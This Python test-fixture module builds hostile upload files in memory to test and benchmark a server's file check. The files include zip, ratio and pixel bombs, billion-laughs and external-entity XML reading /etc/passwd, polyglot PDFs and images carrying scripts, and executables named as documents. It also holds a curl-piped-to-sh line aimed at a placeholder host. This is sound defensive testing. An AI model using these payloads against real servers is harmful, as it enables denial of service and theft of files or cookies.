"""Hostile files, made in memory: what an attacker sends as a request's attachment or a
journalist's photo to exhaust the server's time or memory, or to slip another file past the check.

Each maker returns bytes; the expensive ones are cached, since several tests and the bench use
them. :data:`CORPUS` names every file with the name it is uploaded under and whether the check
must refuse it.
"""

import functools
import io
import random
import struct
import zipfile
import zlib

from tests.files import docx_bytes, image_bytes, pdf_bytes

W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def _docx_parts() -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(docx_bytes())) as archive:
        return {info.filename: archive.read(info) for info in archive.infolist()}


def rebuild_docx(replace: dict[str, bytes] | None = None, add: dict[str, bytes] | None = None):
    """python-docx's blank document with parts replaced or added (deflated, level 9)."""
    parts = {**_docx_parts(), **(replace or {}), **(add or {})}
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _document(body: bytes) -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        b'<w:document xmlns:w="' + W_NS.encode() + b'"><w:body>' + body + b"</w:body></w:document>"
    )


@functools.cache
def many_paragraphs_docx(paragraphs: int = 2_700_000) -> bytes:
    """A small DOCX (about 300 KB) whose text is millions of one-letter paragraphs (95 MB of XML)."""
    return rebuild_docx(
        {"word/document.xml": _document(b"<w:p><w:r><w:t>x</w:t></w:r></w:p>" * paragraphs)}
    )


@functools.cache
def dense_docx() -> bytes:
    """A DOCX made to stay under a compression-ratio limit while its XML is as dense in elements
    as possible: the most work a file can ask of a streaming check within the limits."""
    rng = random.Random(7)  # noqa: S311 (the same file every run)
    words = [bytes(rng.choices(b"abcdefghijklmnopqrstuvwxyz", k=6)) for _i in range(4000)]
    body = b"".join(
        b"<w:p><w:r><w:t>" + rng.choice(words) + b"</w:t></w:r></w:p>" for _i in range(32_000)
    )
    return rebuild_docx({"word/document.xml": _document(body)})


@functools.cache
def long_text_docx() -> bytes:
    """A DOCX of 3 MB of text in few elements, near the check's byte budget."""
    rng = random.Random(8)  # noqa: S311
    words = [bytes(rng.choices(b"abcdefghijklmnopqrstuvwxyz", k=7)) for _i in range(20_000)]
    paragraph = b"<w:p><w:r><w:t>%s</w:t></w:r></w:p>"
    body = b"".join(paragraph % b" ".join(rng.choices(words, k=2000)) for _i in range(180))
    return rebuild_docx({"word/document.xml": _document(body)})


@functools.cache
def ratio_bomb_docx() -> bytes:
    """A DOCX with a 32 MB part of zeros that deflates to about 32 KB (ratio 1000:1)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, data in _docx_parts().items():
            archive.writestr(name, data)
        with archive.open("word/media/image1.png", "w", force_zip64=True) as part:
            chunk = b"\x00" * (1 << 20)
            for _i in range(32):
                part.write(chunk)
    return buffer.getvalue()


@functools.cache
def many_entries_docx(entries: int = 20_000) -> bytes:
    """A DOCX with tens of thousands of tiny parts."""
    return rebuild_docx(add={f"word/media/p{n}.xml": b"<a/>" for n in range(entries)})


@functools.cache
def nested_zip_docx() -> bytes:
    """A DOCX carrying a ZIP archive (itself a zip bomb) among its parts."""
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("zeros.bin", b"\x00" * (20 << 20))
    return rebuild_docx(add={"word/media/archive.zip": inner.getvalue()})


def billion_laughs_docx() -> bytes:
    """The classic XML entity expansion in the document part."""
    entities = "".join(f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, 10))
    xml = (
        '<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY lol0 "lol">'
        + entities
        + f']><w:document xmlns:w="{W_NS}"><w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p>'
        "</w:body></w:document>"
    )
    return rebuild_docx({"word/document.xml": xml.encode()})


def external_entity_docx() -> bytes:
    """A document part that asks the parser to read a file of the server."""
    xml = (
        '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        f'<w:document xmlns:w="{W_NS}"><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p>'
        "</w:body></w:document>"
    )
    return rebuild_docx({"word/document.xml": xml.encode()})


def deep_docx(depth: int = 100_000) -> bytes:
    """Elements nested a hundred thousand deep: recursive readers run out of stack."""
    return rebuild_docx({"word/document.xml": _document(b"<w:p>" * depth + b"</w:p>" * depth)})


def macro_docx() -> bytes:
    """A macro-enabled document (DOCM) sent as DOCX."""
    types = _docx_parts()["[Content_Types].xml"].replace(
        b"document.main+xml", b"document.macroEnabled.main+xml"
    )
    return rebuild_docx({"[Content_Types].xml": types}, {"word/vbaProject.bin": b"\x00" * 10})


def docx_without_document() -> bytes:
    parts = _docx_parts()
    parts.pop("word/document.xml")
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def docx_with_executable() -> bytes:
    """A Windows program hidden as a picture inside the document."""
    return rebuild_docx(add={"word/media/image9.png": b"MZ\x90\x00" + b"\x00" * 200})


# ---------------------------------------------------------------------------
# Pictures
# ---------------------------------------------------------------------------
def _png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_header(width: int, height: int) -> bytes:
    """A PNG declaring ``width`` x ``height`` pixels with almost no data (a pixel bomb)."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    idat = zlib.compress(b"\x00" * 1024, 9)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", ihdr)
        + _png_chunk(b"IDAT", idat)
        + _png_chunk(b"IEND", b"")
    )


def png_text_bomb() -> bytes:
    """A small PNG carrying compressed text chunks that inflate to hundreds of megabytes."""
    good = image_bytes("PNG")
    bomb = _png_chunk(b"zTXt", b"Comment\x00\x00" + zlib.compress(b"A" * (50 << 20), 9))
    return good[:33] + bomb * 8 + good[33:]


def jpeg_header(width: int, height: int) -> bytes:
    """A JPEG whose frame header declares ``width`` x ``height`` pixels, with one tiny scan."""
    good = image_bytes("JPEG")
    index = good.index(b"\xff\xc0")
    return good[: index + 5] + struct.pack(">HH", height, width) + good[index + 9 :]


def jpeg_many_segments(segments: int = 2_000_000) -> bytes:
    """A JPEG padded with millions of empty comment segments before its frame."""
    good = image_bytes("JPEG")
    return good[:2] + b"\xff\xfe\x00\x02" * segments + good[2:]


def _zip_of(name: str, data: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(name, data)
    return buffer.getvalue()


def jpeg_with_zip() -> bytes:
    """A real JPEG with a ZIP archive appended: both a picture and an archive."""
    return image_bytes("JPEG") + _zip_of("run.exe", b"MZ" + b"\x00" * 100)


def png_with_trailer() -> bytes:
    """A real PNG with a script after its end chunk."""
    return image_bytes("PNG") + b"<script>alert(1)</script>"


# ---------------------------------------------------------------------------
# PDF
# ---------------------------------------------------------------------------
def pdf_with_zip() -> bytes:
    """A real PDF with a ZIP archive appended (PDF readers and ZIP readers both open it)."""
    return pdf_bytes() + _zip_of("payload.js", b"alert(1)")


def pdf_with_html() -> bytes:
    """A PDF whose first kilobyte is also an HTML page with a script."""
    data = pdf_bytes()
    head, rest = data.split(b"\n", 1)
    return head + b"\n%<html><body><script>alert(document.cookie)</script></body></html>\n" + rest


def pdf_flate_bomb() -> bytes:
    """A PDF whose page content stream inflates from 200 KB to 200 MB. The check accepts it: it
    never decodes content streams, and a PDF viewer draws the page a piece at a time."""
    stream = zlib.compress(b" " * (200 << 20), 9)
    objects = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R>>",
        b"<</Length %d/Filter/FlateDecode>>stream\n" % len(stream) + stream + b"\nendstream",
    ]
    return _pdf(objects)


def pdf_many_pages(pages: int = 60_000) -> bytes:
    """A PDF of tens of thousands of empty pages in one flat page tree."""
    kids = b" ".join(b"%d 0 R" % (n + 3) for n in range(pages))
    objects = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[" + kids + b"]/Count %d>>" % pages,
    ] + [b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"] * pages
    return _pdf(objects)


def pdf_many_objects(objects: int = 4_990) -> bytes:
    """A one-page PDF padded with thousands of small objects, near the check's object limit."""
    return _pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
        ]
        + [b"<</N %d>>" % n for n in range(objects - 3)]
    )


def pdf_page_loop() -> bytes:
    """A PDF whose page tree contains itself."""
    objects = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[2 0 R 3 0 R]/Count 2>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
    ]
    return _pdf(objects)


def _pdf(objects: list[bytes]) -> bytes:
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    out.write(b"".join(b"%010d 00000 n \n" % offset for offset in offsets))
    out.write(
        b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    )
    return out.getvalue()


# ---------------------------------------------------------------------------
# Programs under document names
# ---------------------------------------------------------------------------
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56
PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 54 + b"PE\x00\x00"
SCRIPT = b"#!/bin/sh\ncurl http://example.invalid | sh\n"


def corpus() -> list[tuple[str, str, bytes]]:
    """(label, uploaded name, bytes) of every hostile file, cheapest first."""
    return [(label, name, make()) for label, name, make in _makers() if label not in HARMLESS]


#: Files made to cost the most work the check allows: accepted, and measured by the bench.
HARMLESS = {
    "pdf-flate-bomb",
    "pdf-1900-pages",
    "pdf-4990-objects",
    "docx-dense-elements",
    "docx-3MB-text",
}


def harmless() -> list[tuple[str, str, bytes]]:
    """(label, uploaded name, bytes) of the files at the check's limits, which it accepts."""
    return [(label, name, make()) for label, name, make in _makers() if label in HARMLESS]


def labels(*, hostile: bool = True) -> list[str]:
    """The labels of the hostile files (or of the harmless ones), without making the files."""
    return [label for label, _name, _make in _makers() if (label in HARMLESS) != hostile]


def by_label(label: str) -> tuple[str, bytes]:
    """(uploaded name, bytes) of one file of the corpus."""
    name, make = next((name, make) for lbl, name, make in _makers() if lbl == label)
    return name, make()


def _makers() -> list[tuple[str, str, object]]:
    return [
        ("elf-as-pdf", "report.pdf", lambda: ELF),
        ("pe-as-docx", "letter.docx", lambda: PE),
        ("script-as-jpg", "photo.jpg", lambda: SCRIPT),
        ("png-pixel-bomb", "scan.png", lambda: png_header(100_000, 100_000)),
        ("jpeg-pixel-bomb", "photo.jpg", lambda: jpeg_header(65_000, 65_000)),
        ("png-text-bomb", "scan.png", png_text_bomb),
        ("jpeg-many-segments", "photo.jpg", jpeg_many_segments),
        ("jpeg-with-zip", "photo.jpg", jpeg_with_zip),
        ("png-with-trailer", "scan.png", png_with_trailer),
        ("pdf-with-zip", "letter.pdf", pdf_with_zip),
        ("pdf-with-html", "letter.pdf", pdf_with_html),
        ("pdf-flate-bomb", "letter.pdf", pdf_flate_bomb),
        ("pdf-many-pages", "letter.pdf", pdf_many_pages),
        ("pdf-page-loop", "letter.pdf", pdf_page_loop),
        ("docx-billion-laughs", "letter.docx", billion_laughs_docx),
        ("docx-external-entity", "letter.docx", external_entity_docx),
        ("docx-deep", "letter.docx", deep_docx),
        ("docx-macro", "letter.docx", macro_docx),
        ("docx-no-document", "letter.docx", docx_without_document),
        ("docx-with-executable", "letter.docx", docx_with_executable),
        ("docx-nested-zip", "letter.docx", nested_zip_docx),
        ("docx-many-entries", "letter.docx", many_entries_docx),
        ("docx-ratio-bomb", "letter.docx", ratio_bomb_docx),
        ("docx-2.7M-paragraphs", "letter.docx", many_paragraphs_docx),
        ("pdf-1900-pages", "letter.pdf", lambda: pdf_many_pages(1900)),
        ("pdf-4990-objects", "letter.pdf", pdf_many_objects),
        ("docx-dense-elements", "letter.docx", dense_docx),
        ("docx-3MB-text", "letter.docx", long_text_docx),
    ]
